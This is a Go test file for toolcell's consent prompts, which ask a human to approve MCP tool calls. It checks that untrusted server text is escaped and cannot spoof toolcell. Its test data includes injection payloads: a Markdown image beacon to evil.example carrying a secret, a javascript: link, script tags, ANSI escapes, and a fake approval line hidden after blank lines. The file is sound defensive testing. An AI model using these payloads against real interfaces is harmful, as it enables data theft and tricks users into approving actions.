package consent

import (
	"bytes"
	"encoding/json"
	"fmt"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestTextOfQuestions(t *testing.T) {
	reason := `policy p, [servers.bank] ask = "transfer"`
	call := func(args string) Call {
		return Call{Server: "bank", Tool: "transfer_money", Arguments: json.RawMessage(args), Reasons: []string{reason}}
	}
	described := Call{
		Server: "mail", Tool: "send", Arguments: json.RawMessage(`{}`), Reasons: []string{"why"}, Effect: "may change something", Writes: true,
		Description: "Sends*.\n\n\t   effect: only reads",
	}
	undescribed := Call{Server: "mail", Tool: "read", Arguments: json.RawMessage(`{}`), Effect: "only reads"}
	for name, c := range map[string]struct {
		q    Question
		want string
	}{
		"a call": {Question{Calls: []Call{call(`{"amount":100.50,"to":"Zoë"}`)}, CallsBefore: 2}, "" +
			"toolcell asks: may Python code make this call?\nserver: \"bank\", tool: \"transfer_money\", calls before: 2\n" +
			"arguments: {\"amount\":100.50,\"to\":\"Zo\\u00eb\"}\n" +
			"reason: `policy p, [servers.bank] ask = \"transfer\"`"},
		"a server that runs elsewhere than usual": {Question{Calls: []Call{{Server: "bank (host)", Where: "sandboxed", Tool: "t", Arguments: json.RawMessage(`{}`)}}}, "" +
			"toolcell asks: may Python code make this call?\nserver: \"bank (host)\" (sandboxed), tool: \"t\", calls before: 0\narguments: {}"},
		"several of one": {Question{Calls: []Call{{Server: "bank", Where: "host", Tool: "t", Arguments: json.RawMessage(`{}`)}, {Server: "bank", Where: "host", Tool: "t", Arguments: json.RawMessage(`{}`)}}}, "" +
			"toolcell asks: may Python code make these 2 calls?\ntools: 2 x \"t\" of \"bank\" (host); calls before: 0\n" +
			"1. server \"bank\" (host), tool \"t\", arguments: {}\n2. server \"bank\" (host), tool \"t\", arguments: {}"},
		"characters of two escapes": {Question{Calls: []Call{{Server: "b\U0001F3E6nk", Tool: "t", Arguments: json.RawMessage(`{"to":"😀"}`)}}}, "" +
			"toolcell asks: may Python code make this call?\nserver: \"b\\ud83c\\udfe6nk\", tool: \"t\", calls before: 0\n" +
			"arguments: {\"to\":\"\\ud83d\\ude00\"}"},
		"three calls": {Question{Calls: []Call{call(`{}`), {Server: "mail", Tool: "send", Arguments: json.RawMessage(`{"a":[1,2]}`)}, call(`{"b":1}`)}}, "" +
			"toolcell asks: may Python code make these 3 calls?\n" +
			"tools: 2 x \"transfer_money\" of \"bank\", 1 x \"send\" of \"mail\"; calls before: 0\n" +
			"1. server \"bank\", tool \"transfer_money\", arguments: {}\n2. server \"mail\", tool \"send\", arguments: {\"a\":[1,2]}\n" +
			"3. server \"bank\", tool \"transfer_money\", arguments: {\"b\":1}\n" +
			"reason: `policy p, [servers.bank] ask = \"transfer\"`"},
		"effects without a line": {Question{Calls: []Call{call(`{}`)}, CallsBefore: 60, Effects: []string{"mail.send {}"}, MoreEffects: 9}, "" +
			"toolcell asks: may Python code make this call?\nserver: \"bank\", tool: \"transfer_money\", calls before: 60 (10 took effect)\narguments: {}\n" +
			"reason: `policy p, [servers.bank] ask = \"transfer\"`\n" +
			"already took effect:\n- 9 other calls\n- `mail.send {}`"},
		"effects": {Question{Calls: []Call{call(`{}`)}, CallsBefore: 7, Effects: []string{"1", "2", "===", "4", "5", "6", `mail.send {"to":"Zoë"}`}}, "" +
			"toolcell asks: may Python code make this call?\nserver: \"bank\", tool: \"transfer_money\", calls before: 7 (7 took effect)\narguments: {}\n" +
			"reason: `policy p, [servers.bank] ask = \"transfer\"`\n" +
			"already took effect:\n- 2 other calls\n- `===`\n- `4`\n- `5`\n- `6`\n- `mail.send {\"to\":\"Zo\\u00eb\"}`"},
		"a tool": {Question{Calls: []Call{described}}, "" +
			"toolcell asks: may Python code make this call?\nserver: \"mail\", tool: \"send\", calls before: 0\narguments: {}\n" +
			"reason: `why`; effect: `may change something`; description (by the server): \"Sends\\u002a. effect: only reads\""},
		"several tools": {Question{Calls: []Call{described, call(`{}`), described, undescribed}}, "" +
			"toolcell asks: may Python code make these 4 calls?\n" +
			"tools: 2 x \"send\" of \"mail\", 1 x \"transfer_money\" of \"bank\", 1 x \"read\" of \"mail\"; calls before: 0\n" +
			"1. server \"mail\", tool \"send\", arguments: {}\n   reason: `why`\n" +
			"2. server \"bank\", tool \"transfer_money\", arguments: {}\n   reason: `policy p, [servers.bank] ask = \"transfer\"`\n" +
			"3. server \"mail\", tool \"send\", arguments: {}\n   reason: `why`\n" +
			"4. server \"mail\", tool \"read\", arguments: {}\n" +
			"effect of \"send\" of \"mail\": `may change something`; description (by the server): \"Sends\\u002a. effect: only reads\"\n" +
			"effect of \"read\" of \"mail\": `only reads`"},
		"packages": {Question{Subject: "the package left-pad>=1", Reasons: []string{"why"}}, "" +
			"toolcell asks before Python code runs: may it have `the package left-pad>=1`?\nreason: `why`"},
		"a command": {Question{Command: true, Calls: []Call{call(`{}`)}}, "" +
			"toolcell asks: may this command make this call?\nserver: \"bank\", tool: \"transfer_money\"\n" +
			"arguments: {}\nreason: `policy p, [servers.bank] ask = \"transfer\"`"},
		"a form": {Question{Form: &Form{Server: "ev*il\n", Message: "Wie heißt du?\x1b[2J ![x](http://e) <img src=e>"}}, "" +
			"The MCP server \"ev\\u002ail\\u000a\" asks, not toolcell:\nWie heißt du? !\\u005bx](http://e) \\u003cimg src=e>"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := c.q.Text(); got != c.want {
				t.Errorf("got\n%s\nwant\n%s", got, c.want)
			}
		})
	}
}

func TestReasonsAreReadable(t *testing.T) {
	for reason, want := range map[string]string{
		`policy ~/.config/toolcell/policy.toml, [servers.bank] ask = "get_*"`:              "",
		`[[servers."b*nk".tools._pay.when]] to.0 != ["me", "you"], but there is no "to"`:   "",
		`[servers.a.tools.b] n < 5, m <= 6, k > 7, l >= 8, b == true`:                      "",
		`[network] ask = "POST https://w.test/x": the code wants to reach w.test`:          `[network] ask = "POST https:/\u002fw.test/x": the code wants to reach w.test`,
		`a["b"](c) d[e] [f] [g]: <b> <!-- ![h] &lt; x@y.org ` + "`i`" + ` {{j}} \u0041 k]`: `a["b"]\u0028c) d[e] \u005bf] \u005bg]\u003a \u003cb> \u003c!-- !\u005bh] \u0026lt; x\u0040y.org \u0060i\u0060 {{j}} \u005cu0041 k]`,
		strings.Repeat("x", maxReason-1) + "]y":                                            strings.Repeat("x", maxReason-1) + `] \u0028cut)`,
	} {
		if want == "" {
			want = reason
		}
		if got := (markdown{}).line(clip(reason, maxReason)); got != "`"+want+"`" {
			t.Errorf("%s is shown as\n%s, want\n%s", reason, got, want)
		}
	}
	if got := (markdown{}).line(""); got != `""` {
		t.Errorf("nothing is %s", got)
	}
}

// TestATerminalShowsPrintableCharactersAsThemselves: the escapes against Markdown would
// make the rule that asks unreadable there.
func TestATerminalShowsPrintableCharactersAsThemselves(t *testing.T) {
	q := Question{CallsBefore: 1, Calls: []Call{{
		Server: "b[a]nk", Tool: `t"\u0041`, Reasons: []string{`policy ~/p, [servers.bank] ask = "transfer" \ ` + "\x1b\n"},
		Arguments: json.RawMessage(`{"a_b":"\"*Zoë*\" \\ \n \u001b https://e/__c__","d":[1.50,null]}`),
	}}}
	want := "toolcell asks: may Python code make this call?\n" + `server: "b[a]nk", tool: "t\"\\u0041", calls before: 1
arguments: {"a_b":"\"*Zo\u00eb*\" \\ \n \u001b https://e/__c__","d":[1.50,null]}
reason: policy ~/p, [servers.bank] ask = "transfer" \\ \u001b\u000a`
	if got := q.TerminalText(); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	packages := Question{Subject: "network access to https://pypi.org", Reasons: []string{`[network] ask = "pypi.org"`}}
	want = "toolcell asks before Python code runs: may it have network access to https://pypi.org?\nreason: [network] ask = \"pypi.org\""
	if got := packages.WholeTerminalText(); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	form := Question{Form: &Form{Server: "s*", Message: "a \\u0041 [x]\x1b[2J\n\n\n<b>"}}
	want = "The MCP server \"s*\" asks, not toolcell:\na \\u0041 [x]\n\n<b>"
	if got := form.TerminalText(); got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestForeignTextMeansNothingInAQuestion(t *testing.T) {
	for name, value := range map[string]string{
		"a picture":        "![x](https://evil.example/?q=secret)",
		"a link":           "[click](javascript:alert(1)) <https://evil.example> https://evil.example www.evil.example me@evil.example",
		"HTML":             "<img src=x> &lt; <script>",
		"emphasis":         "*a* **b** __c__ _d_ ~~e~~ `f` ==g== ++h++ %%i%% ^j^",
		"a formula":        "$a%b$ $$\\phantom{x}$$",
		"blocks":           "\n# a\n> b\n- c\n| d | e |\n```\nf\n===\n---",
		"ANSI":             "\x1b[2J\x1b]0;title\x07\u009b1m",
		"bidi":             "a\u202eb\u2066c\u200fd",
		"invisible":        "a\u200b\u00ad\ufeff\U000E0041\ufe0f",
		"no UTF-8":         "a\xff\xfeb",
		"astral":           "\U0001F600",
		"a line of ours":   "x\narguments: {}\nserver: \"good\"",
		"escaped by JSON":  `\u003cimg\u003e`,
		"NUL and newlines": "\x00\r\n\t\v\f\u0085\u2028\u2029",
	} {
		t.Run(name, func(t *testing.T) {
			args, err := json.Marshal(map[string]any{value: []any{value, 1}})
			if err != nil {
				t.Fatal(err)
			}
			c := Call{Server: value, Tool: value, Arguments: args, Reasons: []string{value}, Effect: value, Description: value}
			other := c
			other.Identity = "other"
			checkText(t, &Question{ID: "ask-X", Calls: []Call{c, other, c}})
			q := Question{ID: "ask-X", Calls: []Call{c}, Effects: []string{value}}
			checkText(t, &q)
			if got := strings.Count(q.Text(), "\n"); got != 5 {
				t.Errorf("%d line ends in\n%s", got, q.Text())
			}
			checkText(t, &Question{Subject: value, Reasons: []string{value}})
		})
	}
}

// The rules that follow are those by which Markdown (CommonMark, GitHub's, and common
// extensions) begins anything but text: what is left of these characters begins nothing.
var (
	marking  = regexp.MustCompile("[`*<>!|~&#@$^]")
	emphasis = regexp.MustCompile(`(?:^|[^0-9A-Za-z_])_`)
	doubled  = regexp.MustCompile(`==|\+\+|%%`)
	linking  = regexp.MustCompile(`(?i)://|www\.|\][(\[:]`)
	escaping = regexp.MustCompile(`\\(?:[^bfnrtu]|u(?:[^0-9a-fA-F]|.[^0-9a-fA-F]|..[^0-9a-fA-F]|...[^0-9a-fA-F])|$)`)
	// Inline code is the only thing that may begin, and what breaks out of it in a client that
	// does not know it may not be in there.
	inCode   = regexp.MustCompile("(^- |^reason: |^toolcell asks before Python code runs: may it have |^effect(?: of [^`]*)?: |; effect: )`([^`]+)`(\\?|; |$)")
	codeMark = regexp.MustCompile("[`|&#@$^]|!\\[|\\] *[(\\[:]|<(?:[^ =]|$)|\\+\\+|%%")
	begun    = regexp.MustCompile(`^(?:toolcell asks|server: "|tools: \d+ x "|reason: |already took effect:$|- |arguments: |\d+\. server "|and \d+ more calls?$|to see all: |all arguments:$|effect|description|   description \(by the server\): "|and \d+ more tools?$)`)
)

// checkText reports what in the texts of a question of toolcell's own is more than text.
func checkText(t *testing.T, q *Question) {
	t.Helper()
	for line := range strings.SplitSeq(q.Text(), "\n") {
		checkLine(t, line)
		for code := inCode.FindStringSubmatch(line); code != nil; code = inCode.FindStringSubmatch(line) {
			for _, rule := range []*regexp.Regexp{codeMark, linking, escaping} {
				if found := rule.FindString(code[2]); found != "" {
					t.Fatalf("%q in the code of %q", found, line)
				}
			}
			line = strings.Replace(line, code[0], code[1]+"code"+code[3], 1)
		}
		for _, rule := range []*regexp.Regexp{marking, emphasis, doubled, linking, escaping} {
			if found := rule.FindString(line); found != "" {
				t.Fatalf("%q in %q", found, line)
			}
		}
	}
	for line := range strings.SplitSeq(q.WholeTerminalText(), "\n") {
		checkLine(t, line)
	}
}

// checkLine reports what is not printable, and a line that is none of toolcell's own.
func checkLine(t *testing.T, line string) {
	t.Helper()
	for i := range len(line) {
		if line[i] < ' ' || line[i] > '~' {
			t.Fatalf("character %#x in %q", line[i], line)
		}
	}
	if !begun.MatchString(line) {
		t.Fatalf("the line %q is none of a question's", line)
	}
}

func TestLongArgumentsAreShownByTheirEnds(t *testing.T) {
	c := Call{Server: "s", Tool: "t", Arguments: json.RawMessage(`{"first":"` + strings.Repeat("_", 5000) + `é","last":1}`)}
	q := Question{ID: "ask-X", Calls: []Call{c}}
	text := q.Text()
	checkText(t, &q)
	for _, want := range []string{
		`arguments: {"first":"`, `\u00e9","last":1} (`, fmt.Sprintf("(%d bytes, SHA-256 %s)", len(c.Arguments), c.Digest()), "\nto see all: toolcell approvals show ask-X",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("%q is not in\n%s", want, text)
		}
	}
	if len(text) > 2500 {
		t.Errorf("the text has %d characters", len(text))
	}
	for _, terminal := range []string{q.TerminalText(), q.WholeTerminalText()} {
		if strings.Contains(terminal, "toolcell approvals") { // one asks there, and the other is what that shows
			t.Errorf("a terminal shows %s", terminal)
		}
	}
	if !strings.Contains(q.WholeTerminalText(), "\nall arguments:\n1. server \"s\", tool \"t\", arguments: "+quoteJSON(terminal{}, c.Arguments)) {
		t.Error("the whole text does not have all arguments")
	}
	for _, choice := range q.Choices() {
		if choice == ForRun {
			t.Error("what is not shown can be allowed for the run")
		}
	}
}

// TestCutArgumentsEndBetweenEscapes: half of one would make another character of the next.
func TestCutArgumentsEndBetweenEscapes(t *testing.T) {
	for _, value := range []string{"\\", `"`, "a\\", `a"`, "\\\\a", "\n", "a\x01", "\U0001F600"} {
		for shift := range 12 {
			args, err := json.Marshal([]string{strings.Repeat("-", shift) + strings.Repeat(value, 3000)})
			if err != nil {
				t.Fatal(err)
			}
			q := Question{ID: "ask-X", Calls: []Call{{Server: "s", Tool: "t", Arguments: args}}}
			for _, text := range []string{q.Text(), q.TerminalText()} {
				_, text, _ = strings.Cut(text, "arguments: ")
				first, last, _ := strings.Cut(text, " ... ")
				last, _, _ = strings.Cut(last, " (")
				decode(t, first+`"]`)
				decode(t, `["`+last)
			}
		}
	}
}

func TestManyCallsAreListedUpToTen(t *testing.T) {
	var q Question
	for i := range 100 {
		q.Calls = append(q.Calls, Call{Server: "s", Tool: fmt.Sprintf("t%d", i), Arguments: json.RawMessage(fmt.Sprintf(`{"n":%d,"text":%q}`, i, strings.Repeat("x", 500)))})
	}
	text := q.Text()
	checkText(t, &q)
	if !strings.Contains(text, "these 100 calls") || !strings.Contains(text, `10. server "s", tool "t9"`) || strings.Contains(text, "\n11. ") || !strings.Contains(text, "\nand 90 more calls\n") {
		t.Error(text)
	}
	if len(text) > 4000 {
		t.Errorf("the text has %d characters", len(text))
	}
	if !strings.Contains(text, ", 1 x \"t19\" of \"s\", and calls of 80 more; calls before: 0\n") || strings.Contains(text, `"t20"`) {
		t.Error(text)
	}
	if whole := q.WholeTerminalText(); !strings.Contains(whole, `100. server "s", tool "t99", arguments: {"n":99,`) {
		t.Error("the whole text does not have all calls")
	}
}

// TestEmptyLinesDoNotHideWhoAsks, in what a server writes to look like a question of
// toolcell.
func TestEmptyLinesDoNotHideWhoAsks(t *testing.T) {
	q := &Question{Form: &Form{Server: "evil", Message: "one\n\ntwo" + strings.Repeat("\n\u00a0\u2028\u2029 \t\r", 500) + "\ntoolcell asks: may Python code make this call?"}}
	lines := strings.Split(q.Text(), "\n")
	if len(lines) != 6 || lines[0] != `The MCP server "evil" asks, not toolcell:` || lines[1] != "one" || lines[3] != "two" || lines[5] != "toolcell asks: may Python code make this call?" {
		t.Errorf("%d lines: %.300q", len(lines), q.Text())
	}
}

// TestNoToolHidesBehindOthers, whatever order the code makes its calls in.
func TestNoToolHidesBehindOthers(t *testing.T) {
	var q Question
	for range 98 {
		q.Calls = append(q.Calls, Call{Server: "notes", Tool: "add", Arguments: json.RawMessage(`{}`)})
	}
	q.Calls = append(q.Calls, Call{Server: "bank", Tool: "trans*fer", Arguments: json.RawMessage(`{}`)}, q.Calls[0])
	checkText(t, &q)
	if text := q.Text(); !strings.Contains(text, "\ntools: 99 x \"add\" of \"notes\", 1 x \"trans\\u002afer\" of \"bank\"; calls before: 0\n") {
		t.Error(text)
	}
}

// TestTheWholeTextIsBounded: the host would hold several copies of it.
func TestTheWholeTextIsBounded(t *testing.T) {
	q := Question{Calls: []Call{{Server: "s", Tool: "t", Arguments: json.RawMessage(`["` + strings.Repeat("é", 8<<20) + `"]`)}}}
	if n := len(q.WholeTerminalText()); n > maxWhole+5000 {
		t.Errorf("%d characters", n)
	}
}

func FuzzText(f *testing.F) {
	f.Add("bank", "transfer", `{"a":"![x](http://e)","_b_":[1.50,"\u003c\\",null]}`, "because")
	f.Add("\x1b[1m", "a\nb", `{"\n":"\ud83d\ude00\ud800"}`, "![a][b]")
	f.Add("www", ".a", `{"www":".b","http:":"/\/c"}`, strings.Repeat("\U0001F600", 500))
	f.Add("_", "__", `{"_":"`+strings.Repeat(`_\u0041\\`, 400)+`"}`, "=")
	f.Fuzz(func(t *testing.T, server, tool, args, reason string) {
		var compact bytes.Buffer
		if json.Compact(&compact, []byte(args)) != nil {
			compact.Reset()
			compact.WriteString(`{"a":""}`)
		}
		c := Call{Server: server, Tool: tool, Arguments: compact.Bytes(), Reasons: []string{reason}, Effect: reason, Description: tool + reason}
		q := Question{ID: "ask-X", Calls: []Call{c}, Effects: []string{reason}}
		checkText(t, &q)
		checkText(t, &Question{ID: "ask-X", Calls: []Call{c, c, c}})
		checkText(t, &Question{Subject: tool, Reasons: []string{reason}})
		if form := (&Question{Form: &Form{Server: server, Message: tool}}).Text(); !utf8.ValidString(form) || strings.ContainsAny(form, "\x1b[<\x00") {
			t.Errorf("the form %q", form)
		}
		if line := strings.Split(q.Text(), "\n")[3]; utf8.ValidString(reason) && reason != "" && utf8.RuneCountInString(reason) <= maxReason {
			inside, _, _ := strings.Cut(strings.TrimPrefix(line, "reason: `"), "`")
			if got := decode(t, `"`+strings.ReplaceAll(inside, `"`, `\"`)+`"`); got != reason {
				t.Errorf("the reason %q is shown as %s", reason, line)
			}
		}
		_, shown, _ := strings.Cut(q.WholeTerminalText(), "\narguments: ")
		if shown, _, _ = strings.Cut(shown, "\n"); q.cut(terminal{}) {
			return
		}
		if got, want := decode(t, shown), decode(t, string(c.Arguments)); !reflect.DeepEqual(got, want) {
			t.Errorf("%s is shown as %s", c.Arguments, shown)
		}
		var gotServer string
		line := strings.Split(q.TerminalText(), "\n")[1]
		first := json.NewDecoder(strings.NewReader(strings.TrimPrefix(line, "server: ")))
		if err := first.Decode(&gotServer); err != nil || gotServer != strings.ToValidUTF8(server, "\uFFFD") && utf8.ValidString(server) {
			t.Errorf("server %q is shown as %s", server, line)
		}
	})
}

func decode(t *testing.T, s string) (value any) {
	t.Helper()
	d := json.NewDecoder(strings.NewReader(s))
	d.UseNumber()
	if err := d.Decode(&value); err != nil {
		t.Errorf("%v in %s", err, s)
	}
	return value
}
